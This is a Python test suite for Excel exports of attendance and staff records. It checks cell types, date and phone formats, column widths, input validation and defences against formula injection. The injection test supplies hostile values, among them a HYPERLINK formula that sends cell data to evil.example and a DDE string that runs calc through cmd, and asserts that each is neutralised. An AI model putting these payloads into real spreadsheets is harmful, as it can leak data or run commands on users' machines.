"""Tests for the ``attendance_excel_export`` and ``staff_excel_export`` processors.

Every produced workbook is opened again with openpyxl and checked cell by cell: headers,
values and their types, number formats, widths, and what a hostile string becomes.
"""

from __future__ import annotations

import io
import subprocess
import sys
import zipfile
from datetime import date, datetime, time
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from workers.base import BadInput, JobInput, ProcessorResult
from workers.excel_export import (
    MAX_ROWS,
    XLSX_MIME,
    AttendanceExcelExportProcessor,
    StaffExcelExportProcessor,
    display_width,
    neutralise,
)

REPO_ROOT = Path(__file__).resolve().parents[2]
TODAY = date(2026, 11, 26)
ALL_ATTENDANCE_HEADERS = [
    *("날짜", "이름", "학년", "반", "강의", "출결 상태"),
    *("입실 시각", "퇴실 시각", "학생 연락처", "보호자 연락처", "비고"),
]

ATTENDANCE_ROWS: list[dict[str, Any]] = [
    {
        "date": "2026-11-26",
        "name": "김민준",
        "grade": 3,
        "class_name": "A반",
        "lecture": "수학 심화",
        "status": "present",
        "check_in": "2026-11-26T05:58:00Z",
        "check_out": "18:40",
        "phone": "01012345678",
        "parent_phone": "010-9876-5432",
        "memo": None,
    },
    {
        "date": "2026.11.27",
        "name": "이서연",
        "grade": "고2",
        "class_name": "B반",
        "lecture": "영어 독해",
        "status": "결석",
        "check_in": None,
        "check_out": None,
        "phone": 1055556666,
        "parent_phone": "02-123-4567",
        "memo": "병결 (진단서 제출 예정)",
    },
]


# --------------------------------------------------------------------------- helpers


def export(
    params: dict[str, Any], processor: Any = AttendanceExcelExportProcessor, progress: Any = None
) -> ProcessorResult:
    proc = processor(today=lambda: TODAY)
    job = JobInput(params=params) if progress is None else JobInput(params=params, progress=progress)
    result: ProcessorResult = proc.run(job)
    return result


def sheet(result: ProcessorResult) -> Worksheet:
    (artifact,) = result.artifacts
    wb = openpyxl.load_workbook(io.BytesIO(artifact.data))
    ws = wb.active
    assert isinstance(ws, Worksheet)
    return ws


def values(ws: Worksheet) -> list[list[Any]]:
    return [list(row) for row in ws.iter_rows(values_only=True)]


def refused(params: dict[str, Any], processor: Any = AttendanceExcelExportProcessor) -> str:
    proc = processor(today=lambda: TODAY)
    with pytest.raises(BadInput) as first:
        proc.validate(params)
    with pytest.raises(BadInput) as second:
        proc.run(JobInput(params=params))
    assert first.value.code == second.value.code
    return first.value.code


# --------------------------------------------------------------------------- contract


@pytest.mark.parametrize(
    ("processor", "job_type"),
    [(AttendanceExcelExportProcessor, "attendance_excel_export"), (StaffExcelExportProcessor, "staff_excel_export")],
)
def test_processors_declare_their_job_type_and_take_no_file(processor: Any, job_type: str) -> None:
    assert processor.job_type == job_type
    assert processor.input_key is None
    assert processor.extensions == frozenset()
    assert processor.wants_gpu is False


def test_module_imports_no_heavy_library_eagerly() -> None:
    heavy = ("django", "celery", "openpyxl", "cv2", "numpy")
    code = f"import sys, workers.excel_export; print(sorted(m for m in {heavy!r} if m in sys.modules))"
    out = subprocess.run([sys.executable, "-c", code], cwd=REPO_ROOT, capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


# --------------------------------------------------------------------------- attendance


def test_attendance_export_has_korean_headers_and_typed_values() -> None:
    result = export({"rows": ATTENDANCE_ROWS})
    assert result.data == {
        "filename": "attendance_2026-11-26.xlsx",
        "rows": 2,
        "sheet_name": "출결",
        "columns": ALL_ATTENDANCE_HEADERS,
    }
    (artifact,) = result.artifacts
    assert artifact.name == "attendance_2026-11-26.xlsx"
    assert artifact.content_type == XLSX_MIME
    assert zipfile.ZipFile(io.BytesIO(artifact.data)).testzip() is None
    assert result.confidence == 1.0
    assert result.review is False

    ws = sheet(result)
    assert ws.title == "출결"
    rows = values(ws)
    assert rows[0] == result.data["columns"]
    assert rows[1] == [
        datetime(2026, 11, 26),
        "김민준",
        3,
        "A반",
        "수학 심화",
        "출석",
        datetime(2026, 11, 26, 14, 58),  # 05:58 UTC is 14:58 in Korea
        time(18, 40),
        "010-1234-5678",
        "010-9876-5432",
        None,
    ]
    assert rows[2] == [
        datetime(2026, 11, 27),
        "이서연",
        "고2",
        "B반",
        "영어 독해",
        "결석",
        None,
        None,
        "010-5555-6666",
        "02-123-4567",
        "병결 (진단서 제출 예정)",
    ]
    assert len(rows) == 3


def test_date_cells_are_dates_with_a_date_number_format() -> None:
    ws = sheet(export({"rows": ATTENDANCE_ROWS}))
    assert ws["A2"].is_date
    assert ws["A2"].number_format == "yyyy-mm-dd"
    assert ws["A3"].is_date
    assert ws["G2"].is_date
    assert ws["G2"].number_format == "yyyy-mm-dd hh:mm"
    assert ws["H2"].is_date
    assert ws["H2"].number_format == "hh:mm"


def test_phone_numbers_are_text_cells_with_the_text_format() -> None:
    ws = sheet(export({"rows": ATTENDANCE_ROWS}))
    for ref in ("I2", "J2", "I3", "J3"):
        assert ws[ref].data_type == "s", ref
        assert ws[ref].number_format == "@", ref
    assert ws["I3"].value == "010-5555-6666"  # from the integer Excel-style 1055556666
    odd = sheet(export({"rows": [{"name": "a", "phone": "내선 1234"}]}))
    assert odd["B2"].value == "내선 1234"


def test_a_date_field_holding_text_stays_text() -> None:
    rows = [
        {"date": "미정", "check_in": "25:00"},
        {"date": "2026-02-30", "check_in": "0001-01-01T00:00:00+09:00"},
        {"date": "1899-12-31", "check_in": "9999-12-31T23:59:00-09:00"},
    ]
    ws = sheet(export({"rows": rows}))
    assert values(ws)[1:] == [
        ["미정", "25:00"],
        ["2026-02-30", "0001-01-01T00:00:00+09:00"],
        ["1899-12-31", "9999-12-31T23:59:00-09:00"],
    ]
    assert all(ws.cell(row=r, column=c).data_type == "s" for r in (2, 3, 4) for c in (1, 2))


def test_header_row_is_styled_frozen_and_filtered() -> None:
    ws = sheet(export({"rows": ATTENDANCE_ROWS}))
    assert ws["A1"].font.b is True
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:K3"


def test_column_widths_fit_the_content_with_hangul_counted_double() -> None:
    rows = [{"name": "김", "memo": "가" * 20}, {"name": "Alexander Hamilton", "memo": "x"}]
    ws = sheet(export({"rows": rows}))
    assert ws.column_dimensions["A"].width == len("Alexander Hamilton") + 2
    assert ws.column_dimensions["B"].width == 40 + 2
    wide = sheet(export({"rows": [{"memo": "가" * 500}]}))
    assert wide.column_dimensions["A"].width == 60
    narrow = sheet(export({"rows": [{"memo": "x"}]}))
    assert narrow.column_dimensions["A"].width == 6  # the header 비고 is 4 wide
    assert display_width("출결 상태") == 9
    assert display_width("ab\n가나다") == 6


def test_title_goes_above_the_header() -> None:
    result = export({"rows": ATTENDANCE_ROWS[:1], "title": "2026년 11월 출결 현황", "sheet_name": "11월"})
    ws = sheet(result)
    assert ws.title == "11월"
    assert result.data["sheet_name"] == "11월"
    assert ws["A1"].value == "2026년 11월 출결 현황"
    assert ws["A1"].font.b is True
    assert ws["A2"].value == "날짜"
    assert ws["B3"].value == "김민준"
    assert ws.freeze_panes == "A3"
    assert ws.auto_filter.ref == "A2:K3"


def test_status_codes_become_korean_labels_and_other_text_is_kept() -> None:
    rows = [{"status": s} for s in ("present", "LATE", "absent", "early_leave", "excused", "보강")]
    ws = sheet(export({"rows": rows}))
    assert [ws.cell(row=r, column=1).value for r in range(2, 8)] == ["출석", "지각", "결석", "조퇴", "공결", "보강"]


def test_columns_default_to_the_fields_present_plus_extra_keys() -> None:
    rows = [{"name": "김민준", "student_no": "00123", "date": "2026-11-26"}, {"name": "이서연", "seat": 4}]
    result = export({"rows": rows})
    assert result.data["columns"] == ["날짜", "이름", "student_no", "seat"]
    ws = sheet(result)
    assert values(ws)[1] == [datetime(2026, 11, 26), "김민준", "00123", None]
    assert ws["C2"].data_type == "s"  # a numeric-looking string stays text
    assert values(ws)[2] == [None, "이서연", None, 4]


def test_iso_dates_in_extra_columns_become_dates() -> None:
    ws = sheet(export({"rows": [{"name": "a", "registered": "2026-03-02", "seen": "2026-03-02T10:15:00+09:00"}]}))
    assert ws["B2"].value == datetime(2026, 3, 2)
    assert ws["B2"].number_format == "yyyy-mm-dd"
    assert ws["C2"].value == datetime(2026, 3, 2, 10, 15)
    assert ws["C2"].number_format == "yyyy-mm-dd hh:mm"


def test_columns_param_picks_and_orders_columns() -> None:
    result = export({"rows": ATTENDANCE_ROWS, "columns": ["name", "status", "date", "room"]})
    assert result.data["columns"] == ["이름", "출결 상태", "날짜", "room"]
    assert values(sheet(result))[1] == ["김민준", "출석", datetime(2026, 11, 26), None]


def test_no_rows_give_a_header_only_sheet_with_every_column() -> None:
    result = export({"rows": []})
    assert result.data["rows"] == 0
    rows = values(sheet(result))
    assert rows == [ALL_ATTENDANCE_HEADERS]


def test_large_integers_numbers_and_booleans() -> None:
    ws = sheet(export({"rows": [{"id": 12345678901234567, "score": 87.5, "paid": True, "count": -3}]}))
    assert values(ws)[1] == ["12345678901234567", 87.5, True, -3]
    assert ws["A2"].data_type == "s"


# --------------------------------------------------------------------------- injection


@pytest.mark.parametrize(
    "hostile",
    [
        "=1+2",
        '=HYPERLINK("http://evil.example/?"&A1,"클릭")',
        "+82 cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_injection_is_neutralised(hostile: str) -> None:
    result = export({"rows": [{"name": hostile, "memo": hostile}], "title": hostile})
    (artifact,) = result.artifacts
    ws = sheet(result)
    for ref in ("A1", "A3", "B3"):
        cell = ws[ref]
        assert cell.data_type == "s", ref
        assert cell.value == "'" + hostile.strip(), ref  # surrounding whitespace is trimmed first
    with zipfile.ZipFile(io.BytesIO(artifact.data)) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")


def test_safe_strings_are_left_alone_and_control_characters_dropped() -> None:
    assert neutralise("김민준") == "김민준"
    assert neutralise("1+1=2") == "1+1=2"
    assert neutralise("a\x00b\x07c\nd") == "abc\nd"
    assert neutralise("-") == "'-"
    ws = sheet(export({"rows": [{"name": "bell\x07", "memo": "줄1\n줄2"}]}))
    assert values(ws)[1] == ["bell", "줄1\n줄2"]


def test_negative_numbers_are_numbers_not_neutralised_text() -> None:
    ws = sheet(export({"rows": [{"delta": -5}]}))
    assert ws["A2"].value == -5
    assert ws["A2"].data_type == "n"


def test_a_phone_written_with_a_plus_is_normalised_rather_than_quoted() -> None:
    ws = sheet(export({"rows": [{"phone": "+82 10-1234-5678"}, {"phone": "+1 555 0100"}]}))
    assert ws["A2"].value == "010-1234-5678"
    assert ws["A3"].value == "'+1 555 0100"


# --------------------------------------------------------------------------- staff


def test_staff_export_has_its_own_headers_dates_and_filename() -> None:
    rows = [
        {
            "name": "박지훈",
            "role": "원장",
            "subject": "수학",
            "phone": "010-2222-3333",
            "email": "jihoon@academy.example",
            "hired_on": "2019-03-02",
            "status": "active",
            "memo": "",
        },
        {"name": "최유나", "role": "강사", "hired_on": "2024/9/1", "status": "on_leave", "email": "=cmd()"},
    ]
    result = export({"rows": rows}, processor=StaffExcelExportProcessor)
    assert result.data["filename"] == "staff_2026-11-26.xlsx"
    assert result.data["sheet_name"] == "직원"
    ws = sheet(result)
    assert values(ws) == [
        ["이름", "직책", "담당 과목", "연락처", "이메일", "입사일", "재직 상태", "비고"],
        ["박지훈", "원장", "수학", "010-2222-3333", "jihoon@academy.example", datetime(2019, 3, 2), "재직", None],
        ["최유나", "강사", None, None, "'=cmd()", datetime(2024, 9, 1), "휴직", None],
    ]
    assert ws["F2"].number_format == "yyyy-mm-dd"
    assert ws["D2"].data_type == "s"


def test_filename_date_defaults_to_today_in_korea() -> None:
    result = StaffExcelExportProcessor().run(JobInput(params={"rows": []}))
    name = result.data["filename"]
    assert name.startswith("staff_")
    assert name.endswith(".xlsx")
    date.fromisoformat(name[len("staff_") : -len(".xlsx")])


def test_progress_is_reported() -> None:
    seen: list[tuple[str, int]] = []
    rows = [{"name": f"학생{i}", "date": "2026-11-26"} for i in range(5001)]
    export({"rows": rows}, progress=lambda s, p: seen.append((s, p)))
    assert seen[0] == ("prepare", 0)
    assert ("prepare", 59) in seen
    assert seen[-1] == ("done", 100)


# --------------------------------------------------------------------------- refusals


@pytest.mark.parametrize(
    "params",
    [
        {},
        {"rows": None},
        {"rows": "a,b"},
        {"rows": {"name": "a"}},
        {"rows": [["김민준", "2026-11-26"]]},
        {"rows": [{"name": "a"}, "b"]},
        {"rows": [{"name": {"first": "a"}}]},
        {"rows": [{"name": ["a"]}]},
        {"rows": [{"score": float("nan")}]},
        {"rows": [{"score": float("inf")}]},
        {"rows": [{"": "a"}]},
        {"rows": [{"k" * 101: "a"}]},
        {"rows": [{"memo": "x" * 32_768}]},
        {"rows": [{f"f{i}": 1 for i in range(51)}]},
        {"rows": [], "title": 5},
        {"rows": [], "title": "  "},
        {"rows": [], "title": "t" * 201},
        {"rows": [], "sheet_name": "a/b"},
        {"rows": [], "sheet_name": "x" * 32},
        {"rows": [], "sheet_name": "'quoted'"},
        {"rows": [], "sheet_name": "History"},
        {"rows": [], "sheet_name": 3},
        {"rows": [], "columns": []},
        {"rows": [], "columns": "name"},
        {"rows": [], "columns": ["name", "name"]},
        {"rows": [], "columns": ["name", 3]},
    ],
)
def test_bad_params_are_invalid_payload(params: dict[str, Any]) -> None:
    assert refused(params) == "INVALID_PAYLOAD"


def test_too_many_rows_are_refused_as_too_large() -> None:
    assert refused({"rows": [{}] * (MAX_ROWS + 1)}) == "PAYLOAD_TOO_LARGE"
    assert refused({"rows": [{}] * (MAX_ROWS + 1)}, processor=StaffExcelExportProcessor) == "PAYLOAD_TOO_LARGE"


def test_validate_accepts_good_params() -> None:
    AttendanceExcelExportProcessor().validate({"rows": ATTENDANCE_ROWS, "title": "출결", "sheet_name": "11월"})
    StaffExcelExportProcessor().validate({"rows": [], "columns": ["name", "email"]})
